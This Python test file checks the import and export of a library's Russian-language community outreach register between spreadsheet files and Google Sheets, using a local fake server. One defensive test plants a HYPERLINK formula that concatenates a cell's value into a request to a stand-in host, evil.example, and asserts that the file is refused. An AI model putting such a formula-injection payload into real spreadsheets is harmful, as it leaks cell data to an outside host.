"""Import and export over the real wire: nothing doubled, nothing overwritten, nothing lost, nothing half."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import gspread
import pytest

from sheets_outreach.errors import FileError, RegisterError
from sheets_outreach.examples import read_example
from sheets_outreach.jobs.importing import ImportReport, export_workbook, import_file
from sheets_outreach.jobs.setup import set_up
from sheets_outreach.jobs.validate_rows import validate_rows
from sheets_outreach.localsheets import LocalServer, SeenRequest
from sheets_outreach.register.columns import Tab
from sheets_outreach.workbook.gateway import Gateway
from tests.jobs.sheets import blank_workbook, people_do, stored, writes
from tests.workbook.files import HOSTILE, excel_file
from tests.workbooks import TITLES, create_workbook, open_workbook_of, register_row, register_rows

PEOPLE = 7


@pytest.fixture
def original(tmp_path: Path) -> Path:
    """The original table as an Excel file, its first heading merged over the table."""
    return excel_file(tmp_path / "original.xlsx", {"Лист1": read_example("original")}, merge="A3:G3")


def people_rows(workbook: gspread.Spreadsheet, title: str = "Сообщества") -> list[list[str]]:
    """Give the people's first seven columns, empty rows at the end left out."""
    return [row[:PEOPLE] for row in workbook.worksheet(title).get_all_values()]


def filled(rows: list[list[str]]) -> list[list[str]]:
    """Leave out what is blank at the end."""
    while rows and not any(rows[-1]):
        rows.pop()
    return rows


def counts(report: ImportReport) -> dict[str, tuple[int, int, int, int]]:
    """Give new, changed, differing and skipped rows by tab."""
    return {one.tab: (one.new, one.changed, one.differing, one.skipped) for one in report.tabs}


def test_an_empty_spreadsheet_and_the_original_table_become_a_complete_workbook(
    server: LocalServer, original: Path
) -> None:
    """Setup, import, check; then a second setup and a second import write nothing."""
    workbook, gateway = blank_workbook(server)
    set_up(gateway)
    report = import_file(gateway, original)
    assert counts(report) == {"Сообщества": (1, 0, 0, 0)}
    validate_rows(gateway)
    rows = people_rows(workbook)
    assert filled(rows)[1:] == filled([list(row) for row in read_example("original")])[1:]
    merges = stored(server, workbook.id, "Сообщества").listed("merges")
    assert [(m["startRowIndex"], m["startColumnIndex"], m["endColumnIndex"]) for m in merges] == [(2, 0, 7)]
    sheet = workbook.worksheet("Сообщества")
    assert sheet.col_values(sheet.row_values(1).index("Проверка") + 1)[3]
    server.requests.clear()
    assert not set_up(gateway).written
    assert not import_file(gateway, original).written
    validate_rows(gateway)
    assert writes(server) == 0


def test_a_dry_run_counts_and_writes_nothing(server: LocalServer, tmp_path: Path) -> None:
    """New, skipped and invalid rows are told before anything is written."""
    workbook = create_workbook(server, register_rows([register_row("Соседи")]), title="Сообщества")
    rows = register_rows(
        [
            register_row("Соседи"),
            register_row("Двор", link="https://vk.com/dvor"),
            register_row("Сад", link="https://t.mе/sad"),
        ]
    )
    path = excel_file(tmp_path / "more.xlsx", {"Реестр": rows})
    server.requests.clear()
    report = import_file(open_workbook_of(server, workbook.id), path, dry_run=True)
    assert counts(report) == {"Сообщества": (2, 0, 0, 1)}
    assert report.tabs[0].invalid == 1
    assert writes(server) == 0


def test_a_community_is_known_by_its_link_however_it_is_written(server: LocalServer, tmp_path: Path) -> None:
    """The same group under another name and another spelling of its address is not added again."""
    rows = register_rows([register_row("Соседи", link="https://vk.com/sosedi_sokol")])
    workbook = create_workbook(server, rows, title="Сообщества")
    again = register_rows([register_row("Соседи (Сокол)", link="http://m.vk.com/sosedi_sokol?from=groups")])
    path = excel_file(tmp_path / "again.xlsx", {"Реестр": again})
    report = import_file(open_workbook_of(server, workbook.id), path)
    assert counts(report) == {"Сообщества": (0, 0, 1, 0)}
    assert people_rows(workbook)[1] == rows[1]


def test_cells_that_differ_are_changed_only_when_asked_for_and_never_emptied(
    server: LocalServer, tmp_path: Path
) -> None:
    """With ``update`` the file's words win; where the file says nothing the workbook keeps what it has."""
    workbook = create_workbook(server, register_rows([register_row("Соседи")]), title="Сообщества")
    row = register_row("Соседи", agreement="раз в месяц", admin="")
    path = excel_file(tmp_path / "new.xlsx", {"Реестр": register_rows([row])})
    gateway = open_workbook_of(server, workbook.id)
    import_file(gateway, path)
    assert people_rows(workbook)[1] == register_row("Соседи")
    report = import_file(gateway, path, update=True)
    assert counts(report) == {"Сообщества": (0, 1, 0, 0)}
    assert people_rows(workbook)[1] == register_row("Соседи", agreement="раз в месяц")
    assert counts(import_file(gateway, path, update=True)) == {"Сообщества": (0, 0, 0, 1)}
    assert not server.core.document(workbook.id).workbook.sheets[0].dimensions["ROWS"]


def test_new_communities_go_below_the_heading_of_their_platform(server: LocalServer, tmp_path: Path) -> None:
    """Whatever the file's order; a platform without a heading gets one at the end."""
    rows = [
        list(TITLES),
        ["FACEBOOK", *[""] * 6],
        register_row("Fb", link="https://www.facebook.com/groups/fb1"),
        [""] * 7,
        ["VKONTAKTE", *[""] * 6],
    ]
    workbook = create_workbook(server, rows, title="Сообщества")
    more = register_rows(
        [
            register_row("Tg", link="https://t.me/tg_sokol"),
            register_row("Vk", link="https://vk.com/vk1"),
            register_row("Fb 2", link="https://www.facebook.com/groups/fb2"),
        ]
    )
    path = excel_file(tmp_path / "more.xlsx", {"Реестр": more})
    import_file(open_workbook_of(server, workbook.id), path)
    names = [row[0] for row in filled(people_rows(workbook))]
    assert names == ["Название", "FACEBOOK", "Fb", "Fb 2", "", "VKONTAKTE", "Vk", "Telegram", "Tg"]


def test_columns_that_the_workbook_lacks_are_added_at_its_right(server: LocalServer, tmp_path: Path) -> None:
    """One we know and one we do not; an empty one is not worth a column."""
    workbook = create_workbook(server, register_rows([register_row("Соседи")]), title="Сообщества")
    header = [*TITLES, "Статус", "Любимый цвет", "Пустая"]
    path = excel_file(tmp_path / "more.xlsx", {"Р": [header, [*register_row("Двор"), "кандидат", "синий", ""]]})
    import_file(open_workbook_of(server, workbook.id), path)
    values = workbook.sheet1.get_all_values()
    assert values[0][7:9] == ["Статус", "Любимый цвет"]
    assert "Пустая" not in values[0]
    assert values[2][:9] == [*register_row("Двор"), "кандидат", "синий"]


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_a_workbook_comes_back_whole_from_a_file(
    server: LocalServer, tmp_path: Path, original: Path, kind: str
) -> None:
    """Every people's cell of every tab is the same in a new workbook, typed as before."""
    workbook, gateway = blank_workbook(server)
    set_up(gateway)
    import_file(gateway, original)
    _fill_other_tabs(workbook)
    path = tmp_path / f"export.{kind}"
    export_workbook(gateway, path)
    assert not import_file(gateway, path).written
    other, again = blank_workbook(server)
    set_up(again)
    import_file(again, path)
    for title in ("Сообщества", "Дневник", "Анонсы", "Получатели", "Настройки", "Статистика"):
        assert filled(other.worksheet(title).get_all_values()) == filled(workbook.worksheet(title).get_all_values())
    before, after = gateway.read(tuple(Tab)), again.read(tuple(Tab))
    assert after.publications == before.publications
    assert after.publications[0].date == date(2026, 11, 3)
    assert after.settings == before.settings
    assert after.measurements == before.measurements
    assert not import_file(again, path).written


def _fill_other_tabs(workbook: gspread.Spreadsheet) -> None:
    workbook.worksheet("Дневник").update(
        [["03.11.2026", "Airport/Sokol Da Neighborhood", "https://vk.com/wall-1_2", '="Лекция"&"!"']], "A2", raw=False
    )
    workbook.worksheet("Дневник").update([["+7 и ещё текст"]], "D2")
    workbook.worksheet("Анонсы").update(
        [["21.12.2026", "Ёлка", "Приходите\nвсе", "https://lib.example/elka"]], "A2", raw=False
    )
    workbook.worksheet("Получатели").update([["Ольга", "olga@lib.example", "русский", "ежедневно"]], "A2", raw=False)
    workbook.worksheet("Настройки").update([["Библиотека на Соколе"]], "B2", raw=False)
    workbook.worksheet("Статистика").update(
        [["03.11.2026", "Соседи", "https://vk.com/wall-1_2", "vk", 1]], "A2", raw=False
    )


def test_a_settings_value_that_differs_is_left_alone(server: LocalServer, tmp_path: Path) -> None:
    """The library has set it; the file may be old."""
    _, gateway = blank_workbook(server)
    set_up(gateway)
    rows: list[list[object]] = [["Setting", "Value"], ["Minimum members", 500], ["Our own remark", "x"]]
    path = excel_file(tmp_path / "settings.xlsx", {"Settings": rows})
    report = import_file(gateway, path)
    assert counts(report) == {"Настройки": (1, 0, 1, 0)}
    assert gateway.read(tuple(Tab)).settings.min_members == 2000


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_nothing_is_asked_of_google_for_a_hostile_file(server: LocalServer, tmp_path: Path, name: str) -> None:
    """It is refused before the first request."""
    _, gateway = blank_workbook(server)
    server.requests.clear()
    with pytest.raises(FileError):
        import_file(gateway, HOSTILE[name](tmp_path / "register.xlsx"))
    assert server.requests == []


def test_a_file_with_formulas_is_refused_naming_the_first_and_writes_nothing(
    server: LocalServer, tmp_path: Path
) -> None:
    """What a formula would compute in the workbook nobody knows."""
    workbook = create_workbook(server, register_rows([register_row("Соседи")]), title="Сообщества")
    rows = register_rows([register_row("Двор"), register_row("Сад")])
    rows[2][5] = '=HYPERLINK("https://evil.example?"&A2,"Анна")'
    path = excel_file(tmp_path / "formulas.xlsx", {"Реестр": rows})
    server.requests.clear()
    with pytest.raises(FileError, match="row 3, column «Админ»"):
        import_file(open_workbook_of(server, workbook.id), path)
    assert writes(server) == 0


def test_a_file_without_a_tab_we_know_is_refused(server: LocalServer, tmp_path: Path) -> None:
    """The sentence says what is looked for."""
    workbook = create_workbook(server, register_rows([]), title="Сообщества")
    path = excel_file(tmp_path / "shopping.xlsx", {"Лист1": [["хлеб", 2], ["молоко", 1]]})
    with pytest.raises(FileError, match=r"shopping\.xlsx.*no tab we know"):
        import_file(open_workbook_of(server, workbook.id), path)


def test_a_workbook_without_a_register_asks_for_setup_first(server: LocalServer, original: Path) -> None:
    """One command mends it."""
    _, gateway = blank_workbook(server)
    with pytest.raises(RegisterError, match="setup"):
        import_file(gateway, original)


def test_text_that_looks_like_a_formula_arrives_as_text(server: LocalServer, tmp_path: Path) -> None:
    """A CSV export of ours, defused, comes back as it was."""
    path = tmp_path / "r.csv"
    path.write_text("Название,Ссылка,Админ\n'=1+1,https://vk.com/a,'+47 900\n", encoding="utf-8")
    workbook = create_workbook(server, register_rows([]), title="Сообщества")
    import_file(open_workbook_of(server, workbook.id), path)
    assert people_rows(workbook)[1][0] == "=1+1"
    assert people_rows(workbook)[1][5] == "+47 900"
    assert workbook.sheet1.get("A2", value_render_option=gspread.utils.ValueRenderOption.formula) == [["=1+1"]]


def test_days_and_counts_of_a_csv_file_become_days_and_numbers(server: LocalServer, tmp_path: Path) -> None:
    """CSV knows only text; an agreement of «2-3» stays one."""
    path = tmp_path / "r.csv"
    header = "Название,Ссылка,Договоренности,Участников,Поздоровались"
    path.write_text(f"{header}\nСоседи,https://vk.com/s,2-3,2 500,20.11.2026\n", encoding="utf-8")
    workbook = create_workbook(server, register_rows([]), title="Сообщества")
    import_file(open_workbook_of(server, workbook.id), path)
    raw = workbook.sheet1.get("A2:I2", value_render_option=gspread.utils.ValueRenderOption.unformatted)[0]
    assert raw[4] == "2-3"
    assert raw[7:9] == [2500, 46346]


def test_repeated_rows_of_a_file_are_kept_as_often_as_they_stand_there(server: LocalServer, tmp_path: Path) -> None:
    """Nothing is lost, and a second import adds nothing."""
    workbook = create_workbook(server, register_rows([register_row("Соседи")]), title="Сообщества")
    path = excel_file(tmp_path / "twice.xlsx", {"Р": register_rows([register_row("Соседи")] * 3)})
    gateway = open_workbook_of(server, workbook.id)
    assert counts(import_file(gateway, path)) == {"Сообщества": (2, 0, 0, 1)}
    assert counts(import_file(gateway, path)) == {"Сообщества": (0, 0, 0, 3)}


def test_a_lost_answer_does_not_double_rows(server: LocalServer, tmp_path: Path) -> None:
    """The write was applied, its answer was lost: the next look shows that."""
    from sheets_outreach.localsheets.http.faults import Fault

    workbook = create_workbook(server, register_rows([register_row("Соседи")]), title="Сообщества")
    path = excel_file(tmp_path / "more.xlsx", {"Р": register_rows([register_row("Двор"), register_row("Сад")])})
    server.faults.add(Fault(status=503, when="after", times=1, path=":batchUpdate"))
    import_file(open_workbook_of(server, workbook.id), path)
    assert [row[0] for row in filled(people_rows(workbook))] == ["Название", "Соседи", "Двор", "Сад"]


def test_more_rows_than_one_request_takes_keep_their_order(server: LocalServer, tmp_path: Path) -> None:
    """Parts go in from the bottom up."""
    workbook = create_workbook(server, register_rows([register_row("Первый")]), title="Сообщества")
    names = [f"Сообщество {number:04}" for number in range(2300)]
    path = excel_file(tmp_path / "many.xlsx", {"Р": register_rows(register_row(name) for name in names)})
    import_file(open_workbook_of(server, workbook.id), path)
    assert [row[0] for row in filled(people_rows(workbook))] == ["Название", "Первый", *names]


@pytest.mark.parametrize("seed", range(12))
def test_an_update_never_hits_another_row_while_people_insert_and_move_rows(
    server: LocalServer, tmp_path: Path, seed: int
) -> None:
    """At every request boundary somebody inserts, deletes or moves a row; each row ends with its own new agreement."""
    import random

    rng = random.Random(seed)
    names = [f"Двор {number}" for number in range(8)]
    workbook = create_workbook(server, register_rows(register_row(name) for name in names), title="Сообщества")
    wanted = register_rows(register_row(name, agreement=f"раз в {n + 2} дня") for n, name in enumerate(names))
    path = excel_file(tmp_path / "new.xlsx", {"Р": wanted})
    left = [rng.randint(1, 4)]

    def disturb(request: SeenRequest) -> None:
        if workbook.id in request.path and left[0] > 0:
            left[0] -= 1
            at = rng.randint(1, 7)
            place = {"sheetId": 0, "dimension": "ROWS", "startIndex": at, "endIndex": at + 1}
            if rng.random() < 0.5:
                people_do(server, workbook, {"insertDimension": {"range": place, "inheritFromBefore": False}})
            else:
                people_do(
                    server, workbook, {"moveDimension": {"source": place, "destinationIndex": rng.randint(9, 11)}}
                )

    gateway: Gateway = open_workbook_of(server, workbook.id)
    server.core.before_request.append(disturb)
    import_file(gateway, path, update=True)
    server.core.before_request.clear()
    found = {row[0]: row for row in people_rows(workbook)[1:] if row[0]}
    assert found == {row[0]: row for row in wanted[1:]}
    assert not any(mark for mark in _row_marks(server, workbook.id))


def _row_marks(server: LocalServer, identity: str) -> list[object]:
    metadata = server.core.document(identity).workbook.developer_metadata
    return [mark for mark in metadata if mark["metadataKey"] == "sheets-outreach.row"]
